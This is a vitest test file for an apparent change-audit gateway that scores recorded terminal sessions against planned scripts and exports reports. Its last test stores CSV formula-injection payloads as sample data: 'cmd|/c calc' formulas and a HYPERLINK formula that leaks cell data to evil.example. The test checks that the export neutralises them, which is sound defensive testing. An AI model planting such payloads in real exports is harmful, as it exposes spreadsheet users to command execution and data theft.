import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DATABASE_KINDS } from '../../test/databases.ts';
import { buildUser, startTestChangegate, type TestChangegate } from '../../test/harness.ts';
import { storeSession as storeSessionOf, type StoredCommand } from './review.test-kit.ts';

/**
 * The change audit over stored sessions: what the gateway writes when sessions end is written
 * here directly, so the board, filters and reports can be checked on both databases.
 */
describe.each(DATABASE_KINDS)('the change audit on %s', (kind) => {
  let t: TestChangegate;
  const at = (minutes: number) => new Date(t.clock.now().getTime() + minutes * 60_000);

  /** Stores a finished session of `change` on `device` that ran `commands` (text, output). */
  async function storeSession(change: string, device: string, user: string, startMinute: number, commands: Array<[string, string?]>): Promise<number> {
    const client = await buildUserIfMissing(user);
    return storeSessionOf(t, { change, device, user: { username: user, client }, startMinute, commands: commands.map(([text, output]) => ({ text, ...(output !== undefined && { output }) })) });
  }

  const clients = new Map<string, Awaited<ReturnType<typeof buildUser>>['client']>();
  async function buildUserIfMissing(username: string) {
    const existing = clients.get(username);
    if (existing) return existing;
    const { client } = await buildUser(t, { username });
    clients.set(username, client);
    return client;
  }

  beforeAll(async () => {
    t = await startTestChangegate(kind, { CHANGEGATE_SESSION_IDLE_MINUTES: '1440' });
    await buildUserIfMissing('alice');
    await buildUserIfMissing('bob');
    for (const device of ['web01', 'web02']) {
      expect((await t.admin.post('/devices', { name: device, hostname: '192.0.2.10' })).status).toBe(201);
    }
    expect((await t.admin.post('/access-groups', { name: 'ops', executors: ['alice', 'bob'], approvers: ['admin'] })).status).toBe(201);
    const script = ['# Restart nginx', 'systemctl stop nginx', '# optional', 'apt-get update', 'apt-get install -y \\', '  nginx={{version}}', '# expect: active \\(running\\)', 'systemctl start nginx'].join('\n');
    const created = await t.admin.post('/changes', { name: 'CHG-7', title: 'Upgrade nginx', startAt: at(-5).toISOString(), dueAt: at(600).toISOString(), accessGroup: 'ops', devices: ['web01', 'web02'], script });
    expect(created.status).toBe(201);
    const clean = await t.admin.post('/changes', { name: 'CHG-8', title: 'Check uptime', startAt: at(-5).toISOString(), dueAt: at(600).toISOString(), accessGroup: 'ops', devices: ['web02'], script: 'uptime' });
    expect(clean.status).toBe(201);

    // web01, over two sessions: everything but the optional step, plus an extra command.
    await storeSession('CHG-7', 'web01', 'alice', 0, [['systemctl stop nginx'], ['apt-get install -y nginx=1.24.0']]);
    await storeSession('CHG-7', 'web01', 'alice', 20, [['rm -rf /tmp/cache'], ['systemctl start nginx', 'Active: active (running)']]);
    // web02: the start never ran; and CHG-8 exactly as planned.
    await storeSession('CHG-7', 'web02', 'bob', 40, [['systemctl stop nginx'], ['apt-get install -y nginx=1.24.0']]);
    await storeSession('CHG-8', 'web02', 'bob', 60, [['uptime', ' 12:00:00 up 1 day']]);
  });
  afterAll(() => t.close());

  it('shows the board per device across sessions, with the score and outcome', async () => {
    const audit = await t.admin.get('/changes/CHG-7/audit');
    expect(audit.status).toBe(200);
    const boards = Object.fromEntries(
      audit.body.devices.map((device: { device: string; rows: Array<{ kind: string; step: { text: string } | null; command: { text: string } | null }> }) => [
        device.device,
        device.rows.map((row) => [row.kind, row.command?.text ?? row.step?.text]),
      ]),
    );
    expect(boards.web01).toEqual([
      ['matched', 'systemctl stop nginx'],
      ['skipped', 'apt-get update'],
      ['matched', 'apt-get install -y nginx=1.24.0'],
      ['extra', 'rm -rf /tmp/cache'],
      ['matched', 'systemctl start nginx'],
    ]);
    expect(boards.web02).toEqual([
      ['matched', 'systemctl stop nginx'],
      ['skipped', 'apt-get update'],
      ['matched', 'apt-get install -y nginx=1.24.0'],
      ['missing', 'systemctl start nginx'],
    ]);
    const web01 = audit.body.devices.find((device: { device: string }) => device.device === 'web01');
    expect(web01).toMatchObject({ score: 75, outcome: 'exceeded' });
    // Whole change: matched 5 of (6 required + 1 extra).
    expect(audit.body).toMatchObject({ score: 71, outcome: 'incomplete_and_exceeded' });
    expect(audit.body.sessions).toHaveLength(3);
    const matchedRow = web01.rows[4];
    expect(matchedRow.command).toMatchObject({ offsetSeconds: 120, recording: expect.stringMatching(/^\/api\/v1\/sessions\/\d+\/recording$/) });
  });

  it('lists audited sessions filtered by change, user, device, outcome, score and command text', async () => {
    const numbers = async (query: string) => (await t.admin.get(`/audit/sessions?${query}`)).body.map((session: { change: string; user: string }) => `${session.change}/${session.user}`).sort();
    expect(await numbers('change=CHG-8')).toEqual(['CHG-8/bob']);
    expect(await numbers('user=alice')).toEqual(['CHG-7/alice', 'CHG-7/alice']);
    expect(await numbers('device=web02')).toEqual(['CHG-7/bob', 'CHG-8/bob']);
    expect(await numbers('outcome=as_planned')).toEqual(['CHG-8/bob']);
    expect(await numbers('scoreMax=80')).toEqual(['CHG-7/alice', 'CHG-7/alice', 'CHG-7/bob']);
    expect(await numbers('scoreMin=100')).toEqual(['CHG-8/bob']);
    expect(await numbers(`command=${encodeURIComponent('rm -rf')}`)).toEqual(['CHG-7/alice']);
    const first = (await t.admin.get('/audit/sessions?change=CHG-8')).body[0];
    expect(first).toMatchObject({ changeScore: 100, changeOutcome: 'as_planned', sourceIp: '192.0.2.7', durationSeconds: 600 });
  });

  it('keeps an as_planned outcome over a limited capture, with a warning naming the session and the reason wherever the outcome is shown', async () => {
    const created = await t.admin.post('/changes', { name: 'CHG-9', title: 'Check uptime', startAt: at(-5).toISOString(), dueAt: at(600).toISOString(), accessGroup: 'ops', devices: ['web01'], script: 'uptime' });
    expect(created.status).toBe(201);
    const alice = { username: 'alice', client: await buildUserIfMissing('alice') };
    const number = await storeSessionOf(t, {
      change: 'CHG-9',
      device: 'web01',
      user: alice,
      startMinute: 70,
      commands: [{ text: 'uptime', fromKeystrokes: true }],
      captureNotes: [
        { reason: 'keystrokes', minute: 1 },
        { reason: 'multiplexer', minute: 2 },
      ],
    });
    const multiplexerAt = at(72).toISOString();
    const warning = `This board may be incomplete because in session #${number} a terminal multiplexer ran on the device (from ${multiplexerAt.slice(11, 19)} UTC).`;

    const audit = (await t.admin.get('/changes/CHG-9/audit')).body;
    // The outcome is the commands', which match the script exactly; the warning goes with it.
    expect(audit).toMatchObject({ score: 100, outcome: 'as_planned', capture: { status: 'limited', warning: expect.stringContaining(warning) } });
    expect(audit.capture.warning).toContain(`Some lines of session #${number} were rebuilt from keystrokes`);
    expect(audit.capture.sessions).toEqual([
      {
        session: number,
        status: 'limited',
        unknownBecause: null,
        reasons: [
          { reason: 'keystrokes', text: 'lines rebuilt from keystrokes (the terminal echoed nothing)', since: at(71).toISOString(), offsetSeconds: 60 },
          { reason: 'multiplexer', text: 'a terminal multiplexer ran on the device', since: multiplexerAt, offsetSeconds: 120 },
        ],
      },
    ]);
    expect(audit.devices[0]).toMatchObject({ device: 'web01', outcome: 'as_planned', capture: { status: 'limited', warning: audit.capture.warning } });
    expect(audit.devices[0].rows[0].command).toMatchObject({ text: 'uptime', fromKeystrokes: true });
    expect(audit.sessions[0]).toMatchObject({ number, capture: { status: 'limited' } });

    // The list of audited sessions, the session's record and its commands.
    const [listed] = (await t.admin.get('/audit/sessions?change=CHG-9')).body;
    expect(listed).toMatchObject({ changeOutcome: 'as_planned', changeCapture: { status: 'limited', warning: audit.capture.warning }, capture: { status: 'limited' } });
    expect((await t.admin.get(`/sessions/${number}/commands`)).body).toMatchObject([{ text: 'uptime', fromKeystrokes: true }]);

    // The reports.
    const json = (await t.admin.get('/changes/CHG-9/audit/report?format=json')).body;
    expect(json).toMatchObject({ outcome: 'as_planned', capture: { warning: audit.capture.warning } });
    const html = String((await t.admin.get('/changes/CHG-9/audit/report?format=html')).body);
    expect(html).toContain('100 (as planned — capture limited)');
    expect(html).toContain(warning);
    const csv = String((await t.admin.get('/changes/CHG-9/audit/report?format=csv')).body).trim().split('\r\n');
    expect(csv[1]).toMatch(/"matched",.*"limited","limited","yes"$/);

    // A complete capture warns of nothing.
    expect((await t.admin.get('/changes/CHG-8/audit')).body).toMatchObject({ outcome: 'as_planned', capture: { status: 'complete', warning: null } });
    expect((await t.admin.get('/audit/sessions?change=CHG-8')).body[0]).toMatchObject({ changeCapture: { status: 'complete', warning: null } });
  });

  it('mentions a session a crash interrupted, whose capture status is unknown', async () => {
    const created = await t.admin.post('/changes', { name: 'CHG-10', title: 'Check uptime', startAt: at(-5).toISOString(), dueAt: at(600).toISOString(), accessGroup: 'ops', devices: ['web02'], script: 'uptime' });
    expect(created.status).toBe(201);
    const bob = { username: 'bob', client: await buildUserIfMissing('bob') };
    const number = await storeSessionOf(t, { change: 'CHG-10', device: 'web02', user: bob, startMinute: 80, commands: ['uptime'], endReason: 'interrupted', exitStatus: null, captureNotes: null });
    const audit = (await t.admin.get('/changes/CHG-10/audit')).body;
    expect(audit).toMatchObject({
      outcome: 'as_planned',
      capture: {
        status: null,
        warning: `This board may be incomplete because session #${number} was interrupted, so whether its capture was complete is unknown.`,
        sessions: [{ session: number, status: null, unknownBecause: 'interrupted', reasons: [] }],
      },
    });
    expect(audit.sessions[0].capture).toBeNull();
  });

  it('exports the audit as JSON, CSV and a self-contained HTML page', async () => {
    const json = await t.admin.get('/changes/CHG-7/audit/report?format=json');
    expect(json.headers['content-disposition']).toContain('CHG-7-audit.json');
    expect(json.body.score).toBe(71);

    const csv = await t.admin.get('/changes/CHG-7/audit/report?format=csv');
    const lines = String(csv.body).trim().split('\r\n');
    expect(lines[0]).toBe(
      '"change","device","row","kind","script_line","script_step","command","session","user","time","offset_seconds","exit_status","linked_row","device_capture","session_capture","from_keystrokes"',
    );
    expect(lines).toHaveLength(1 + 5 + 4);
    expect(lines.some((line) => line.includes('"extra"') && line.includes('"rm -rf /tmp/cache"'))).toBe(true);

    const html = await t.admin.get('/changes/CHG-7/audit/report?format=html');
    const page = String(html.body);
    expect(html.headers['content-type']).toContain('text/html');
    expect(page).toContain('<tr class="missing">');
    expect(page).toContain('<tr class="extra">');
    expect(page).toContain('Active: active (running)');
    expect(page).not.toMatch(/<script|src="http|href="http/);
  });

  it('refuses the audit to a user without Session.View, as "not found" when they cannot see the change', async () => {
    const stranger = await buildUserIfMissing('stranger');
    expect((await stranger.get('/changes/CHG-7/audit')).status).toBe(404);
    expect((await stranger.get('/audit/sessions')).status).toBe(403);
    const viewer = (await buildUser(t, { username: 'viewer', grants: [{ privilege: 'Change.View' }] })).client;
    const denied = await viewer.get('/changes/CHG-7/audit');
    expect(denied.status).toBe(403);
    expect(denied.body.error.message).toContain('Session.View');
  });
});

/** RFC 4180 records: quoted fields may hold commas, quotes (doubled), CR and LF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let k = 0; k < text.length; k++) {
    const ch = text.charAt(k);
    if (quoted) {
      if (ch === '"' && text.charAt(k + 1) === '"') {
        field += '"';
        k++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text.charAt(k + 1) === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      k++;
    } else field += ch;
  }
  return records;
}

describe.each(DATABASE_KINDS)('the session-closing exit, exit statuses and CSV cells in the change audit on %s', (kind) => {
  let t: TestChangegate;
  let dora: Awaited<ReturnType<typeof buildUser>>;
  const at = (minutes: number) => new Date(t.clock.now().getTime() + minutes * 60_000).toISOString();
  const store = (change: string, startMinute: number, commands: StoredCommand[], end: { endReason?: 'client_closed' | 'terminated'; exitStatus?: number | null } = {}) =>
    storeSessionOf(t, { change, device: 'db01', user: dora, startMinute, commands, ...end });
  const board = async (change: string) => {
    const audit = await t.admin.get(`/changes/${change}/audit`);
    expect(audit.status).toBe(200);
    return { audit: audit.body, rows: audit.body.devices[0].rows.map((row: { kind: string; step: { text: string } | null; command: { text: string } | null }) => `${row.kind} ${row.command?.text ?? row.step?.text}`) };
  };

  beforeAll(async () => {
    t = await startTestChangegate(kind, { CHANGEGATE_SESSION_IDLE_MINUTES: '1440' });
    dora = await buildUser(t, { username: 'dora' });
    expect((await t.admin.post('/devices', { name: 'db01', hostname: '192.0.2.20' })).status).toBe(201);
    expect((await t.admin.post('/access-groups', { name: 'dba', executors: ['dora'], approvers: ['admin'] })).status).toBe(201);
    const changes: Array<[string, string]> = [
      ['CHG-EXIT', 'uptime\nsystemctl restart postgresql'],
      ['CHG-SU', 'su - postgres\npsql -c vacuum\nsystemctl restart postgresql'],
      ['CHG-CUT', 'uptime'],
      ['CHG-KILLED', 'uptime'],
      ['CHG-CSV', '=cmd|' + "'/c calc'!A1\n+1\n@SUM(A1)"],
    ];
    for (const [name, script] of changes) {
      const created = await t.admin.post('/changes', { name, title: name, startAt: at(-5), dueAt: at(600), accessGroup: 'dba', devices: ['db01'], script });
      expect(created.status).toBe(201);
    }
  });
  afterAll(() => t.close());

  it('scores 100, as planned, a session that follows its script exactly and then types exit', async () => {
    await store('CHG-EXIT', 0, ['uptime', 'systemctl restart postgresql', 'exit']);
    const { audit, rows } = await board('CHG-EXIT');
    expect(rows).toEqual(['matched uptime', 'matched systemctl restart postgresql', 'session_end exit']);
    expect(audit).toMatchObject({ score: 100, outcome: 'as_planned', counts: { extra: 0, matched: 2 } });
    expect((await t.admin.get('/audit/sessions?change=CHG-EXIT')).body[0]).toMatchObject({ changeScore: 100, changeOutcome: 'as_planned' });
    const html = String((await t.admin.get('/changes/CHG-EXIT/audit/report?format=html')).body);
    expect(html).toContain('<tr class="session_end">');
    expect(html).toContain('ended the session (not counted)');
  });

  it('counts an exit in the middle of a session (leaving su) as the command it is, and not the closing logout', async () => {
    await store('CHG-SU', 20, ['su - postgres', 'psql -c vacuum', 'exit', 'systemctl restart postgresql', 'logout']);
    const { audit, rows } = await board('CHG-SU');
    expect(rows).toEqual(['matched su - postgres', 'matched psql -c vacuum', 'extra exit', 'matched systemctl restart postgresql', 'session_end logout']);
    expect(audit).toMatchObject({ score: 75, outcome: 'exceeded' });
  });

  it('counts a last exit that did not end the session: the user closed the window, or the session was terminated', async () => {
    await store('CHG-CUT', 40, ['uptime', 'exit'], { exitStatus: null });
    expect(await board('CHG-CUT')).toMatchObject({ rows: ['matched uptime', 'extra exit'], audit: { score: 50, outcome: 'exceeded' } });
    await store('CHG-KILLED', 60, ['uptime', 'exit'], { endReason: 'terminated', exitStatus: null });
    expect(await board('CHG-KILLED')).toMatchObject({ rows: ['matched uptime', 'extra exit'], audit: { score: 50, outcome: 'exceeded' } });
  });

  it('neutralises in the CSV every cell that a spreadsheet would run, and shows an unknown exit status as unknown', async () => {
    const typed: StoredCommand[] = [
      { text: '=HYPERLINK("http://evil.example/?"&A1,"click")', exitStatus: null },
      { text: '+1', exitStatus: 1 },
      { text: '-2+3', exitStatus: 0 },
      { text: '@SUM(1+1)*cmd|/c calc', exitStatus: null },
      { text: '\t=1+1', exitStatus: null },
      { text: '\r=1+1', exitStatus: null },
    ];
    await store('CHG-CSV', 80, typed);
    const audit = await t.admin.get('/changes/CHG-CSV/audit');
    const commands = audit.body.devices[0].rows.filter((row: { command: unknown }) => row.command).map((row: { command: { text: string; exitStatus: number | null } }) => row.command);
    expect(commands.map((command: { exitStatus: number | null }) => command.exitStatus)).toEqual([null, 1, 0, null, null, null]);

    const csv = await t.admin.get('/changes/CHG-CSV/audit/report?format=csv');
    expect(csv.headers['content-type']).toContain('text/csv');
    const [header, ...records] = parseCsv(String(csv.body));
    const column = (name: string) => (header ?? []).indexOf(name);
    const cells = records.flatMap((record) => [record[column('script_step')], record[column('command')]]).filter((cell): cell is string => cell !== undefined && cell !== '');
    expect(cells.length).toBeGreaterThanOrEqual(typed.length + 3);
    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    const commandCells = records.map((record) => record[column('command')]).filter(Boolean);
    expect(commandCells).toEqual(expect.arrayContaining(typed.map((command) => `'${typeof command === 'string' ? command : command.text}`)));
    expect(records.map((record) => record[column('user')]).filter(Boolean)).toEqual(expect.arrayContaining(['dora']));
    const statuses = records.filter((record) => record[column('command')]).map((record) => record[column('exit_status')]);
    expect(statuses).toEqual(expect.arrayContaining(['unknown', '1', '0']));
    expect(statuses).not.toContain('');

    const html = String((await t.admin.get('/changes/CHG-CSV/audit/report?format=html')).body);
    expect(html).toContain('exit unknown');
    expect(html).toContain('exit 1');
  });
});
